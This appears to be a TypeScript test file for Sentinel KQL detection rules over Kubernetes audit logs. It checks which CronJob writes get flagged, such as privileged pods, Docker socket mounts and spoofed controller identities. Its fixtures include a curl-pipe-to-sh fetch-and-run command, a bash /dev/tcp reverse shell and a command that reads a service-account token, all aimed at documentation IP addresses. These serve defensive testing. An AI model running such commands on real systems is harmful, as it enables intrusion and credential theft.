import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { before, test } from 'node:test';
import { gunzipSync } from 'node:zlib';
import { readAtomics, shippedAtomics } from '../drill/folder.ts';
import { themeQuery } from '../export/sentinel/query.ts';
import { AKS_AUDIT_SOURCE, AZURE_DIAGNOSTICS_SOURCE, type LogSource, SOURCES } from '../export/sentinel/source.ts';
import { THEMES } from '../export/sentinel/themes.ts';
import { compileQuery, type Query } from '../kql/query.ts';
import { TABLES } from '../kql/tables/schemas.ts';
import { prove } from './prove.ts';
import { readRecording, shippedRecording } from './recording.ts';
import { ask, tablesOf } from './testing/sentinel.ts';

/** Long after the recordings, which a window of that length still holds. */
const NOW = '2036-01-01T00:00:00Z';
const ALL_TIMES: readonly (readonly [string, string])[] = [
  ['let Every=10m;', 'let Every=10000d;'],
  ['let Period=1h;', 'let Period=10000d;'],
];

const compiled = (source: LogSource): Promise<readonly { readonly theme: string; readonly query: Query }[]> =>
  Promise.all(
    THEMES.map(async (theme) => {
      let text = themeQuery(theme, source);
      for (const [from, to] of ALL_TIMES) {
        assert.ok(text.includes(from));
        text = text.replace(from, to);
      }
      return { theme: theme.id, query: await compileQuery(text, TABLES) };
    }),
  );

const foundBy = async (source: LogSource, lines: readonly string[]) => {
  const tables = tablesOf(lines);
  const found: {
    readonly theme: string;
    readonly reasons: string;
    readonly workload: string;
    readonly verb: string;
  }[] = [];
  for (const { theme, query } of queries.get(source) ?? []) {
    for (const { Reasons = '', Workload = '', Verb = '' } of await ask(query, tables, NOW)) {
      found.push({ theme, reasons: Reasons, workload: Workload, verb: Verb });
    }
  }
  return found;
};

const queries = new Map<LogSource, Awaited<ReturnType<typeof compiled>>>();
before(async () => {
  for (const source of SOURCES) queries.set(source, await compiled(source));
});

const folder = new URL('../../fixtures/recordings/', import.meta.url);

/** The table between two lines of docs/sentinel.md is what is measured. */
const documented = readFileSync(new URL('../../docs/sentinel.md', import.meta.url), 'utf8');

for (const source of SOURCES) {
  test(`the atomics that the rules over ${source.says} keep are those that docs/sentinel.md names`, async () => {
    const { played } = await readRecording(shippedRecording());
    const atomics = readAtomics(shippedAtomics()).flatMap((file) => file.atomics);
    const proved = await prove({ atomics, played, envelopes: 'plain', levels: ['RequestResponse'] });
    const lines: string[] = [];
    let [kept, ours, twins] = [0, 0, 0];
    for (const { test: id, variant, verdict } of proved) {
      const run = played.find((one) => one.test === id && one.variant === variant);
      const found = await foundBy(
        source,
        (run?.events ?? []).map((event) => JSON.stringify(event)),
      );
      const themes = [...new Set(found.map(({ theme }) => theme))].join(', ');
      if (variant === 'twin') {
        if (found.length > 0) twins += 1;
        if (found.length > 0) lines.push(`| ${id} | harmless twin: ${themes} |`);
      } else if (verdict === 'detected') {
        ours += 1;
        if (found.length > 0) kept += 1;
        lines.push(`| ${id} | ${themes === '' ? '**not found**' : themes} |`);
      } else assert.deepEqual(found, [], `${id}: found by no rule of ours`);
    }
    const table = `${lines.sort().join('\n')}\n`;
    if (process.env.PRINT_SENTINEL !== undefined) process.stdout.write(`${table}\n${kept} ${ours} ${twins}\n`);
    assert.ok(documented.includes(table), 'the table of docs/sentinel.md is another one: PRINT_SENTINEL=1 prints it');
    assert.ok(documented.includes(`${kept} of ${ours}`) && documented.includes(`${twins} twins`));
  });

  test(`the quiet hour gives three rows over ${source.says}`, async () => {
    const log = gunzipSync(readFileSync(new URL('quiet-hour.jsonl.gz', folder))).toString('utf8');
    const found = await foundBy(
      source,
      log.split('\n').filter((line) => line !== ''),
    );
    assert.deepEqual(found.map(({ theme, reasons, workload }) => `${theme}: ${reasons}, ${workload}`).sort(), [
      'disguise: placement.system-namespace, schedule.every-minute, kube-system/etcd-snapshot',
      'disguise: placement.system-namespace, schedule.every-minute, kube-system/kube-bench',
      'power: privilege.dangerous-capability, shop/storefront-d48d59bbb-4ssqt',
    ]);
  });
}

const event = (change: object): string =>
  JSON.stringify({
    kind: 'Event',
    apiVersion: 'audit.k8s.io/v1',
    level: 'RequestResponse',
    auditID: '5b1c6c52-0e1e-4a36-9a86-0a9f2b3c4d5e',
    stage: 'ResponseComplete',
    requestURI: '/apis/batch/v1/namespaces/shop/cronjobs',
    verb: 'create',
    user: { username: 'mallory@example.com', groups: ['system:authenticated'] },
    sourceIPs: ['198.51.100.7'],
    userAgent: 'kubectl/v1.34.0',
    objectRef: { apiGroup: 'batch', apiVersion: 'v1', resource: 'cronjobs', namespace: 'shop', name: 'tidy' },
    responseStatus: { code: 201 },
    stageTimestamp: '2026-11-24T12:00:00.000000Z',
    ...change,
  });
const cronJob = (pod: object, more: object = {}) => ({
  apiVersion: 'batch/v1',
  kind: 'CronJob',
  metadata: { name: 'tidy', namespace: 'shop' },
  spec: { schedule: '0 3 * * *', jobTemplate: { spec: { template: { spec: pod } } }, ...more },
});
const plainPod = { containers: [{ name: 'a', image: 'registry.example.com/shop/tidy:1', command: ['/tidy'] }] };
const privilegedPod = { containers: [{ name: 'a', image: 'x', securityContext: { privileged: true } }] };
const job = { apiGroup: 'batch', apiVersion: 'v1', resource: 'jobs', namespace: 'shop', name: 'tidy-1' };
const controller = { username: 'system:serviceaccount:kube-system:cronjob-controller' };
const ownedJob = {
  kind: 'Job',
  metadata: { name: 'tidy-1', ownerReferences: [{ kind: 'CronJob', name: 'tidy' }] },
  spec: { template: { spec: privilegedPod } },
};

/** What writes are found for, in the words of the rules' reasons, over every table. */
const CASES: readonly (readonly [name: string, line: string | readonly string[], reasons: readonly string[]])[] = [
  ['nothing to see', event({ requestObject: cronJob(plainPod) }), []],
  ['privileged, by value', event({ requestObject: cronJob(privilegedPod) }), ['privilege.privileged']],
  [
    'fields that are set to false',
    event({
      requestObject: cronJob({
        hostNetwork: false,
        automountServiceAccountToken: false,
        containers: [
          {
            name: 'a',
            image: 'x',
            securityContext: { privileged: false },
            volumeMounts: [{ name: 'c', mountPath: '/etc/app' }],
          },
        ],
        volumes: [{ name: 'c', configMap: { name: 'c' } }],
      }),
    }),
    [],
  ],
  [
    'an init container',
    event({ requestObject: cronJob({ ...plainPod, initContainers: privilegedPod.containers }) }),
    ['privilege.privileged'],
  ],
  [
    'a dry run',
    event({ requestURI: '/apis/batch/v1/namespaces/shop/cronjobs?dryRun=All', requestObject: cronJob(privilegedPod) }),
    [],
  ],
  [
    'a write of the status',
    event({ objectRef: { ...job, subresource: 'status' }, requestObject: cronJob(privilegedPod) }),
    [],
  ],
  [
    'the Job that the controller makes',
    event({ objectRef: job, user: controller, userAgent: 'anything', requestObject: ownedJob }),
    [],
  ],
  [
    'the token of the controller, from inside a pod',
    event({
      objectRef: job,
      user: { ...controller, extra: { 'authentication.kubernetes.io/pod-name': ['shell'] } },
      requestObject: ownedJob,
    }),
    ['privilege.privileged'],
  ],
  [
    'a user who only calls himself so',
    event({ objectRef: job, userAgent: 'kube-controller-manager/v1.34.0', requestObject: ownedJob }),
    ['privilege.privileged'],
  ],
  [
    'the controller with an object of nobody',
    event({ objectRef: job, user: controller, requestObject: { ...ownedJob, metadata: {} } }),
    ['privilege.privileged'],
  ],
  [
    'an argument list in parts',
    event({
      requestObject: cronJob({
        containers: [{ name: 'a', image: 'x', command: ['sh', '-c'], args: ['curl -s http://203.0.113.7/x | sh'] }],
      }),
    }),
    ['command.remote-fetch-execute'],
  ],
  [
    'a download that is data to what reads it',
    event({
      requestObject: cronJob({
        containers: [{ name: 'a', image: 'x', args: ['curl -s https://example.com/a | python3 -m json.tool'] }],
      }),
    }),
    [],
  ],
  [
    'a token for the API server itself',
    event({
      requestObject: cronJob({
        containers: [
          {
            name: 'a',
            image: 'x',
            args: [
              'curl -H "Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)" https://kubernetes.default.svc/api',
            ],
          },
        ],
      }),
    }),
    [],
  ],
  [
    'an unknown field that looks like a template',
    event({ requestObject: { ...cronJob(privilegedPod), template: { spec: plainPod } } }),
    ['privilege.privileged'],
  ],
  ['a body that was withheld', event({ requestObject: 'skipped-too-big-size-object' }), ['The body was withheld']],
  [
    'two writes under one audit id that the client chose',
    [
      event({ requestObject: cronJob(plainPod) }),
      event({ objectRef: { ...job, resource: 'cronjobs', name: 'other' }, requestObject: cronJob(privilegedPod) }),
    ],
    ['privilege.privileged'],
  ],
  [
    'the same write twice',
    [event({ requestObject: cronJob(privilegedPod) }), event({ requestObject: cronJob(privilegedPod) })],
    ['privilege.privileged'],
  ],
  [
    'a patch, by the object that came of it',
    event({
      verb: 'patch',
      requestObject: [
        {
          op: 'add',
          path: '/spec/jobTemplate/spec/template/spec/containers/0/securityContext',
          value: { privileged: true },
        },
      ],
      responseObject: cronJob(privilegedPod),
    }),
    ['privilege.privileged'],
  ],
  [
    'a patch of a label only',
    event({
      verb: 'patch',
      requestObject: { metadata: { labels: { a: 'b' } } },
      responseObject: cronJob(privilegedPod),
    }),
    [],
  ],
  [
    'the socket under its other name',
    event({
      requestObject: cronJob({
        containers: [{ name: 'a', image: 'x', volumeMounts: [{ name: 's', mountPath: '/s', readOnly: true }] }],
        volumes: [{ name: 's', hostPath: { path: '//var/run/./docker.sock' } }],
      }),
    }),
    ['host.runtime-socket'],
  ],
  [
    'an anonymous user',
    event({ user: { username: 'system:anonymous' }, requestObject: cronJob(plainPod) }),
    ['actor.anonymous'],
  ],
  [
    'an anonymous user who was refused',
    event({ user: { username: 'system:anonymous' }, responseStatus: { code: 403 }, requestObject: cronJob(plainPod) }),
    [],
  ],
];

for (const source of SOURCES) {
  for (const [name, lines, reasons] of CASES) {
    test(`over ${source.says}: ${name}`, async () => {
      const found = await foundBy(source, typeof lines === 'string' ? [lines] : lines);
      assert.deepEqual(
        found.map((one) => one.reasons),
        reasons,
      );
    });
  }
}

test('a row that was cut says so, and what is left of its command is searched', async () => {
  const whole = event({
    requestObject: cronJob({
      containers: [{ name: 'a', image: 'x', args: ['bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'] }],
    }),
  });
  const row = JSON.stringify({
    category: 'kube-audit',
    Category: 'kube-audit',
    TimeGenerated: '2026-11-24T12:00:00Z',
    Type: 'AzureDiagnostics',
    log_s: whole.slice(0, -25),
  });
  const found = await foundBy(AZURE_DIAGNOSTICS_SOURCE, [row]);
  assert.deepEqual(
    found.map(({ theme, reasons, workload }) => [theme, reasons, workload]),
    [
      ['execution', 'command.reverse-shell', '/apis/batch/v1/namespaces/shop/cronjobs'],
      ['unread', 'The row was cut and does not parse', '/apis/batch/v1/namespaces/shop/cronjobs'],
    ],
  );
});

test('the tables of both sources hold the events that were given', () => {
  const tables = tablesOf([event({ requestObject: cronJob(plainPod) })]);
  for (const { tables: names } of [AKS_AUDIT_SOURCE, AZURE_DIAGNOSTICS_SOURCE])
    for (const name of names) assert.equal(tables(name).length, 1, name);
});
